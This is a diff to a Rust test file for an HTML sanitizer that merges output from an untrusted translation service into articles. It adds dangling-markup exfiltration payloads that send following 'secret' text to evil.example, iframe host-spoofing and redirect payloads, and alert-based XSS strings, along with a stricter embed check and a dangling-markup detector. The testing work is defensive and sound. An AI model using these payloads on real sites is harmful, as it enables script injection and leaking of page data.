@@ -12,7 +12,7 @@
 //! (hostile) translation service, which `segment::merge` sanitizes and inserts into the article.
 
 use lucid::segments::{self, MergeOptions, Mode, Translation};
-use lucid::{Options, extract, tunables::VIDEO_HOSTS};
+use lucid::{Options, extract};
 use scraper::{ElementRef, Html, node::Node};
 
 /// `(name, html)`. Names say what the payload tries.
@@ -151,6 +151,13 @@ const PAYLOADS: &[(&str, &str)] = &[
     ("iframe other host", r#"<iframe src="https://evil.example/embed"></iframe>"#),
     ("iframe lookalike host", r#"<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>"#),
     ("iframe video host over http", r#"<iframe src="http://www.youtube.com/embed/x"></iframe>"#),
+    ("dangling img src", "<img src=\"https://evil.example/leak?<p>The secret text that follows</p><p class=\"note\">more</p>"),
+    ("dangling link href", "<a href='https://evil.example/?\nsecret'>x</a><p>secret</p>"),
+    ("dangling with tab", "<img src=\"https://evil.example/\tx?\">"),
+    ("iframe user-content subdomain", r#"<iframe src="https://evil.archive.org/embed/x"></iframe>"#),
+    ("iframe user upload", r#"<iframe src="https://archive.org/download/x/page.html"></iframe>"#),
+    ("iframe uploaded svg", r#"<iframe src="https://upload.wikimedia.org/wikipedia/commons/x/evil.svg"></iframe>"#),
+    ("iframe player host redirect", r#"<iframe src="https://www.youtube.com/redirect?q=https://evil.example/"></iframe>"#),
     ("iframe video host with handlers", r#"<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="<script>alert(2)</script>" name="parent"></iframe>"#),
     ("iframe content as markup", "<iframe><img src=x onerror=alert(1)></iframe>"),
     ("svg foreignObject iframe", r#"<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>"#),
@@ -284,11 +291,17 @@ fn is_dangerous_url(element: &str, attribute: &str, value: &str) -> bool {
     ["javascript:", "vbscript:", "livescript:"].iter().any(|scheme| url.starts_with(scheme))
 }
 
+/// The oracle's own list of player pages (not the product's table): an exact host and path.
+const PLAYERS: &[&str] = &[
+    "www.youtube.com/embed/", "youtube.com/embed/", "www.youtube-nocookie.com/embed/", "player.vimeo.com/video/",
+    "www.dailymotion.com/embed/video/", "geo.dailymotion.com/player", "archive.org/embed/", "player.twitch.tv/",
+    "embed.ted.com/talks/", "player.bilibili.com/player.html", "v.qq.com/txp/iframe/player.html", "player.youku.com/embed/",
+];
+
 fn is_video_embed(src: Option<&str>) -> bool {
     let Some(url) = src.and_then(|s| url::Url::parse(s).ok()) else { return false };
-    let host = url.host_str().unwrap_or_default();
-    url.scheme() == "https"
-        && VIDEO_HOSTS.iter().any(|h| host == *h || host.ends_with(&format!(".{h}")))
+    let page = format!("{}{}", url.host_str().unwrap_or_default(), url.path());
+    url.scheme() == "https" && url.port().is_none() && PLAYERS.iter().any(|p| page.starts_with(p))
 }
 
 /// Everything executable or hijacking in a parsed article, described for the failure message.
@@ -329,6 +342,9 @@ fn problems(fragment: &Html) -> Vec<String> {
             };
             if urls.iter().any(|url| is_dangerous_url(name, attribute, url)) {
                 found.push(format!("<{name} {attribute}={value:?}>"));
+            }
+            if URL_ATTRIBUTES.contains(&attribute) && value.contains(['<', '\n', '\r', '\t']) {
+                found.push(format!("<{name} {attribute}={value:?}> (dangling markup)"));
             }
         }
     }
@@ -427,6 +443,7 @@ fn the_checker_sees_hostile_markup() {
         ("<p style='color:red'>x</p>", "style"),
         ("<svg><a href='#'>x</a></svg>", "svg"),
         ("<img name=x>", "clobbering"),
+        ("<img src='https://evil.example/?<p>secret'>", "dangling"),
     ] {
         let found = check_content(hostile);
         assert!(found.iter().any(|p| p.contains(what)), "{hostile}: {found:?}");
